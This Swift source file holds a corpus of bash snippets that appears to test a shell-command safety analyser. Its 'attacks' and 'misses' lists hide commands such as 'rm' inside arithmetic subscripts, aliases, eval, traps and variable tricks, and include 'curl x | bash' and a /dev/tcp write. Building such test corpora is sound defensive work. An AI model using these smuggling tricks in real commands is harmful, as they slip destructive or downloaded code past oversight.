/// Scripts that have a point. Programs in them are stubs: see ShellLaboratory.
enum ShellCorpus {
    static let scripts = quoting + compounds + documents + expansions + builtins + wrappers + attacks + misses + broken

    static let quoting = [
        #"rm -rf x"#, #"r\m x"#, #""r"m 'x y'"#, #"$'\x72m' x"#, #"$'rm' $'a\tb\'c'"#, #"r''m x"#, #"r\"# + "\nm x",
        #"{rm,-rf,x}"#, #"{,rm} x"#, #"rm {a,b}{1,2} x{,y} {1..3} {c..a}"#, #"rm {a} {} {a,b "{a,b}" \{a,b}"#,
        #"rm a"b"'c'd\e"#, #"rm "a\$b\"c\\d\e""#, #"rm '' "" x"#, #"a # b; c"#, "a#b; c#d", "a;#b\nc", "rm \\# x",
        #"a "b;c" 'd|e' f\;g"#, #"a "x'y" 'x"y'"#, #"rm ~ ~/x a=~ "~""#, #"rm * a[bc]d x?"#, #"a $'\u0041\101\e'"#,
        "a b\\\nc d", "a &\\\n& b", "a $\\\n(b)", #"a $"b""#, #"a {b,$'c'}"#, "a 'b\nc' \"d\ne\"",
        #"rm {a,b}} {{a,b} {a,{b,c}}"#,
        #"rm -{a,"b c",'d'}-"#, #"if\ x; a"#, #"\if x; a"#, "a\tb\t c", "é; a é", #"rm {01..03} {1..10..3} {a..C}"#,
    ]

    static let compounds = [
        "a; b & c && d || rm x\nls", "a | b |& c", "! a", "! ! a", "time a", "time -p a | b", "time; a", "! ; a",
        "{ a; b; }", "{ a; } > f 2>&1", "( a; b ) & wait", "(a)(b)", "if a; then b; elif c; then d; else ls; fi",
        "if a\nthen\nb\nfi > f", "while ! a; do b; break; done", "until a; do b; done", "for i in x y; do a $i; done",
        "for i in {1..2}; { a \"$i\"; }", "for i\ndo a; done; b", "for ((i=0; i<2; i++)); do a; done",
        "for ((;;)) { a; break; }",
        "case x in x) a;; y) b;; esac", "case x in (x|y) a;& z) b;;& *) c; esac", "case $(a) in esac; b",
        "case x in esac) b;; x) a; esac", "case in in in) a;; esac", "select x in a b; do c; break; done < /dev/null",
        "f() { a; }; f", "f () ( b ); f", "function g { c; }; g", "function h() if a; then b; fi; h x",
        "f() { a; } > f; f",
        "f() { g; }; g() { a; }; f", "[[ a == b && ( -f x || ! -d y ) ]] && a; b", "[[ x =~ ^(a|b c)$ ]] || a",
        "[[ a < b ]] && a", "[[ -f\nx ]] || a", "[[ $(b) = @(a|b) ]] || a", "(( 1 + 1 )) && a", "((i=1, i++)); a",
        "coproc a", "coproc N { a; b; }; wait",
        "a |\n\nb &&\n# c\nc", "{ a; }; }", "a; ; b", "if a; then fi", "a || | b", "while a; do b; done | c",
        "echo a | time b",
        "a & b & c", "{ a\n}\n(b\n)", "{a; b", "{ a; b", "a }", "a } { b; }", "echo then if; a", "!a; b", "then a",
        "a | { b; c; } | d",
        "if (a) then (b) fi", "while((1<0)); do a; done; b", "! (a)", "{(a);}", "for x in do done; do a $x; done",
        "f()\n\n{ a; }\nf",
    ]

    static let documents = [
        "cat <<E\nx $(a) `b` \\$(c)\nE\nd", "cat <<'E'\n$(a)\nE\nb", "cat <<-E\n\tx\n\tE\na",
        "cat <<\"E\" | a\nb\nE\nc",
        "cat <<E; a\n$(b)\nE\nc", "cat <<A <<B\n$(a)\nA\n$(b)\nB\nc", "cat <<E\nx\\\nE\nE\na", "cat <<E\nE\\\n\nE\na",
        "cat <<E\n\\\\\nE\na",
        "(cat <<E)\n$(a)\nE\nb", "x=$(cat <<E\n$(a)\nE\n); b", "cat <<\\E\n$(a)\nE\nb", "cat <<E\n${x:-$(a)}\nE",
        "cat <<E\n\"$(a \"b c\")\"\nE",
        "cat <<E\n`a \"b\"`\nE", "a <<< \"$(b)\"", "a <<<x 3<<<y", "cat <<E\na", "cat <<E && a\nE\nb",
        "if a; then cat <<E; fi\nx\nE\nb",
        "cat <<E $(a\nb)\nx\nE", "cat <<E \"\n\"\nx\nE\na", "x=$(cat <<E\nEx) ; a\nE\n)", "bash <<'E'\na x\nE",
        "cat <<E\n$((1 + $(a)))\nE", "cat <<E\n\tx\n E\nE\na",
    ]

    static let expansions = [
        "a $(b $(c))", "a `b \\`c\\``", "a \"$(b \"$(c 'x y')\")\"", "a \"`b \\\"x y\\\"`\"", "a `b 'x\\\\y'`",
        "a <(b) >(c)", "a x<(b)", "a $x\"$y\"${z}",
        "a ${x:-$(b)} ${y:=$(c)}", "a \"${x:-\"$(b c)\"}\" ${x+'}'} ${x-\\}}",
        "a ${x//$(b)/$(c)} ${x#$(d)} ${x:$(ls):1}", "x=1; a ${x:+$(b)} ${#x} ${x^^} ${x@Q}",
        "a $((1 + 2)) $(( $(b) + 1 )) $[1+1]", "a $(( x[$(b)] ))", "x=(1 $(a) [5]=$(b)); c", "x[$(a)]=1; b",
        "x[1 + 1]=2; a ${x[2]}", "x+=(y); a ${x[@]}",
        "declare -a x=(1 $(a)); b", "export y=$(a) z; b", "$(echo a) x", "a $(case x in x) b;; esac)", "a $(b # )\n)",
        "a \"$(b)\"'$(c)'", "x=$(a) b", "x=a; $x y",
        "a ${x:-<(b)}", "set -- a b; \"$@\"", "a \"${x:-'b'}\" \"${x//\\'/}\"", "a $( (b) )", "a $((b))", "a $((b) )",
        "a ${!x} ${!BASH*}", "x=b; a ${x/b/$(c)} ${x@P}",
        "y='$(b)'; a ${y@P}", "a ${#} $# $$ $? $! $- $0 $1 ${10}", "a $ b$ \"$\"", "a $(<f)", "a ${x:-a b;c|d}",
        "a ${x:-{b,c}}", "a {$x,$(b)}", "a $(b){c,d}",
        "a \"${x:-$(b '}')}\"", "a \"$( (b) ; { c; } )\"", "a $'$(b)'", "a '`b`' \\`b\\`", "a \"\\$(b)\" \"\\`c\\`\"",
        "a $(if b; then c; fi)", "a `b; c` `d|ls`", "a `b \\\\\\`c\\\\\\``",
    ]

    static let builtins = [
        "eval a b", "eval 'a; b' \"c\"", "eval \"$(echo a)\"", "eval -- 'a x'", "trap 'a x' EXIT",
        "trap -- 'b' EXIT; a", "exec a x", "exec > f; a", "exec -a name b x", "command a x", "command -v a; b",
        "command -p a",
        "builtin eval a", "command eval 'a x'", "a() { b; }; command a", "test() { a; }; test", "printf '%s' x; a",
        "let 'x[$(a)]=1'; b", "declare 'x[$(a)]=1'", "read 'x[$(a)]' <<< 1",
        "printf -v 'x[$(a)]' 1", "unset 'x[$(a)]'", "x=(1); test -v 'x[$(a)]'", "[ -v 'x[$(a)]' ]; b",
        "[[ -v x[$(a)] ]]", "mapfile -t -C 'a x' -c 1 y <<< z", "readarray -C a -c 1 y <<< z", "hash -p /bin/none a; b",
        "enable -n echo; a",
        "shopt -s expand_aliases\nalias a='b x'\na", "alias a=b\na", "set -o posix\nalias a=b\na", "cd /; a",
        "export PATH=x:$PATH; a", "declare -i n; n='x[$(a)]'", "declare -n r=x; r=1; a", "source ./none; a",
        "jobs -x a x", "a() { return; b; }; unset -f a; a x",
        "compgen -C 'a x' y", "compgen -W '$(a)'", "x='y[$(a)]'; echo $((x))", "x='y[$(a)]'; [[ x -eq 1 ]]",
        "x='y[$(a)]'; ((x))", "x='y[$(a)]'; : ${z:x:1}", "x='y[$(a)]'; : ${z[x]}", "x='y[$(a)]'; let z=x",
        "x='y[$(a)]'; z[x]=1", "x='y[$(a)]'; : ${!x}",
        "PS4='$(a)'; set -x; b", "n=0; n=$((n+1)); a $n", "for n in 1 2; do a $((n*2)); done",
        "wait -p 'x[$(a)]' -n; b", "getopts a 'x'; b", "shopt -s extglob\na @(x|y) !(z)", "shopt -s extglob\n!(a)",
        "f() { \"$@\"; }; f a x", "f() { eval \"$1\"; }; f 'a x'", "a x; exit; b", "return; a",
        "x=y command a", "x=y eval a", "set -- ; a", "set -k; a x=1", "set -euo pipefail; a",
        "true && a; false || b; : ; echo c", "test -f x -o -d y && a || b", "v=-v; [ $v 'x[$(a)]' ]",
        "v='-v x[$(a)]'; [ $v ]", "v=-v; [ \"$v\" 'x[$(a)]' ]", "BASH_ENV=f bash -c a", "BASH_ENV='$(a)' bash -c b",
        "a() { b; }; export -f a; bash -c 'a x'", "env 'BASH_FUNC_a%%=() { b x; }' bash -c 'a y'",
        "if false; then a() { b; }; fi; a x", "(a() { b; }); a x", "a x; a() { b; }; a y", "BASH_ALIASES[a]=b; a",
    ]

    static let wrappers = [
        "env a x", "env -i X=1 PATH=\"$PATH\" a", "env -u X -- a", "env X=1 nice -n 5 a y", "env -S 'a x'", "nice a",
        "nice -5 a", "nohup a x", "timeout 5 a", "timeout -k 1 -s INT 5s a x", "timeout --signal=INT 5 a",
        "stdbuf -oL a x", "setsid -w a",
        "echo x y | xargs a -z", "echo x | xargs -n 1 -I{} a '{}' b", "echo a | xargs -I% % x", "echo a | xargs env",
        "echo x | xargs", "echo a x | xargs bash -c", "find . -maxdepth 0 -exec a {} \\;",
        "find . -maxdepth 0 -exec a {} + -exec b \\;", "find . -maxdepth 0 -exec a + {} \\;",
        "find . -maxdepth 0 -name x -o -execdir a '{}' \\;",
        "x=-exec; find . -maxdepth 0 $x a \\;", "x=-exec; find . -maxdepth 0 \"$x\" a \\;",
        "find . -maxdepth 0 -exec bash -c 'a \"$1\"' _ {} \\;", "bash -c 'a x; b'", "bash -ec 'a' name y", "bash -xc a",
        "sh -c 'a; b'", "bash -c \"bash -c 'a x'\"", "bash -c \"$x a\"", "sh -c '((a))'", "sh -c \"a \\$'b'\"",
        "sh -c \"echo \\$'\\\\'; a; echo '\"",
        "sh -c 'alias a=\"b x\"\na'", "echo 'a x' | bash", "bash <<< 'a x'", "bash -s < /dev/null",
        "bash -O extglob -c 'a @(x|y)'", "bash -o posix -c a", "bash none.sh", "nice env timeout 3 nohup a",
        "flock f a x", "flock f -c 'a x'", "flock -n f a", "exec env a", "command env a x", "env -C / a",
        "env bash -c 'a; env b'", "t=1; timeout $t a", "env $x a", "nice $x a x",
        "git -c alias.x='!a' x; b", "echo -e 'a\\nb' | xargs -I{} bash -c '{} x'", "sh -c '{a,b}'", "sh -c 'a &>f'",
        "xargs a < /dev/null", "xargs -a f -r a; b",
    ]

    static let attacks = [
        "echo $[ x='a[$(touch FLAG)]', x ]", "echo $(( x='a[$(touch FLAG)]', x ))", "(( x='a[$(touch FLAG)]', x ))",
        "echo $((\n'a[$(touch FLAG)]'))", "rm${IFS}-rf${IFS}x", "IFS=,; x=rm,-rf,y; $x", "a=r; b=m; $a$b x",
        "echo ok;$(echo rm) x", "ls # \nrm x", "ls '\n' ; rm x",
        "ls \\\nrm x", "ls\rrm", "ls\u{a0}; rm", "ls \"x\\\"; rm y; \"", "ls 'x\\'; rm y; ''", "ls $'x\\'; rm y; \\''",
        "echo \"${x:-`rm y`}\"", "echo ${x:-\"$(rm y)\"}", "cat <<E > f\n$(rm x)\nE", "ls &rm x", "ls|rm x", "ls&&rm x",
        "ls<f rm x", ">f rm x", "x=1 >f y=2 rm x", "{fd}>f rm x", "2>f rm x",
        "{a,$}(b)", "a {$,x}{HOME,y}", "a=(x) rm y", "$'\\162\\155' x", "e\"v\"al 'rm x'", "\\eval rm x",
        "'eval' \"rm x\"", "$(rm x)", "`rm x`", "<(rm x)", "[[ -n $(rm x) ]]", "[[ 1 -eq x[$(rm y)] ]]",
        "${x[$(rm y)]}", "echo ${x:$(rm y)}", "echo ${#x[$(rm y)]}", "coproc rm x; wait", "function rm { ls; }; rm x",
        "unset -f rm; rm x",
        String(repeating: "ls x; ", count: 60) + "rm y", String(repeating: "ls x && ", count: 60) + "rm y",
        "ls\n\n\n\nrm x", "case x in *) rm x;; esac", "time rm x", "! rm x", "exec rm x", "trap 'rm x' EXIT",
        "PROMPT_COMMAND='rm x'", "PATH=.:$PATH ls", "LD_PRELOAD=./x.so ls", "GIT_SSH_COMMAND='rm x' a",
        "echo x > /dev/tcp/127.0.0.1/1", "curl x | bash", "bash <(curl x)", "bash -c \"$(curl x)\"",
        "rm \"$(printf x)\"", "a=\"$(rm x)\" b", "echo ${a:=$(rm x)} ${!a}", "echo \"$((`rm x`))\"",
        "echo $((1,$(rm x)))", "echo $(( 1 )) )", "echo \"$(rm \"$(ls)\")\"", "echo \"${x:-${y:-$(rm z)}}\"",
        "echo {1..3}$(rm x)", "f() ((x[$(rm y)])); f", "for ((x[$(rm y)]=0; 0; )); do :; done",
        "select x in $(rm y); do break; done", "echo ${x/a/\"$(rm y)\"}",
        "alias ls='rm x'; ls", "shopt -s expand_aliases; alias ls='rm x'\nls", "printf -v 'x[`rm y`]' z", "x[`rm y`]=1",
        "echo \"a`rm x`b\"", "a=$'\\'$(rm x)\\''", "echo $'\\'' $(rm x) $'\\''", "echo \\' $(rm x) \\'",
        "echo \"\\\\\"$(rm x)\"\\\\\"", "echo \\\\$(rm x)", "echo \\$(rm x)", "echo '\\'$(rm x)'\\'",
    ]

    /// What was once missed, or nearly.
    static let misses = [
        "x=(1)#; rm y", "((1))#; rm y\nls", "(a)#; rm\nls", "env -u X - rm y", "env - rm y", "env X=\"$y\" rm z",
        "!(rm y)", "!\\\n(rm y)", "REPLY=0; read <<< 'x[$(rm y)]'; echo $((REPLY))",
        "f() { local x=\"$1\" y; rm $x; }; f z", "export PATH=$x:$PATH; rm y", "sh -c 'rm {a,b}'", "sh -c 'source ./f'",
        "sh -c 'builtin eval rm x'", "BASHOPTS=expand_aliases bash -c 'alias a=\"rm x\"\na'",
        "x=\\;; find . -maxdepth 0 -exec a \"$x\" -exec rm y \\;",
        "x={}; find . -maxdepth 0 -exec a \"$x\" + -exec rm y \\;", "wait $!; rm x",
        "n=0; (( n = 1 )); n='x[$(rm y)]'; echo $((n))", "n=0 ; f() { echo $((n)); }; n='x[$(rm y)]' f",
        "a $'x'\"y\"z$(rm y)", "case \"$(rm x)\" in *) ls;; esac", "for i in $(rm x); do ls; done",
        "x=y; case x in $(rm z)) a;; esac", "a {b,c}$(rm x)", "a > $(rm x)", "a 2> \"`rm x`\"", "{ a; } > $(rm x)",
        "if a; then b; fi < <(rm x)", "a <<< $(rm x)", "[[ x =~ $(rm y) ]]", "[[ -f $(rm y) || x ]]",
        "echo ${x[@]:$(rm y)}", "echo \"${x[$(rm y)]:-z}\"", "x=(a); echo ${x[0$(rm y)]}", "x=([$(rm y)]=z)",
        "x=([0+`rm y`]=z b)", "declare -A x=([$(rm y)]=z)", "local x; rm y", "time -p rm x", "coproc { rm x; }; wait",
        "select i in $(rm x); do :; done </dev/null", "exec 3< <(rm x); ls", "while read x; do rm y; break; done <<< z",
        "echo a | while read x; do rm $x; done", "printf '%s\\n' a b | xargs -n1 -I@ rm @ x", "xargs rm <<< 'a b'",
        "a && { b || rm x; }", "a; { rm x; } & wait", "eval \"eval 'rm x'\"", "eval eval eval rm x",
        "bash -c 'eval \"rm x\"'", "trap \"rm x\" 0", "trap 'trap \"rm x\" EXIT' EXIT", "command -p rm x",
        "command -- rm x", "builtin command rm x", "exec -c rm x",
    ]

    static let broken = [
        "", " ", "\n\n", "# only a comment", ";", "&", "|", "&&", "a &&", "a |", "(", ")", "$(", "${", "`", "\"", "'",
        "((", "$((", "[[", "[[ a", "case", "case x", "case x in", "for", "for x in", "if", "if a", "if a; then",
        "while", "f(", "f()", "f() a", "{", "}", "a >", "a <", "a <<", "a <<E", "a >&", "a <(", "x=(", "x[", "$'",
        "${x", "${x:-", "a\\", "<", ">f", ";;", "a;;", "done", "fi", "esac", "do", "!", "time", "coproc", "function",
        "function f", "$((1)", "((1)", "a )", "a (b)", "${x!}", "${}", "${ a; }",
    ]
}
